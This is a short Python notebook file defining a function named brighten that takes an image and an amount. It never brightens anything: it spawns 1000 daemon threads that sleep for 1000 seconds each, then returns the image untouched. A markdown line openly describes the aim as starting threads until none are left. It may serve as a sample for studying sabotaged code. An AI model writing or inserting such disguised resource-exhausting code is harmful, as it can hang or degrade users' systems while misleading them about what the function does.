# %% [markdown]
# Starts threads until there are no more.

# %%
import threading
import time


# %%
def brighten(image, amount):
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    return image
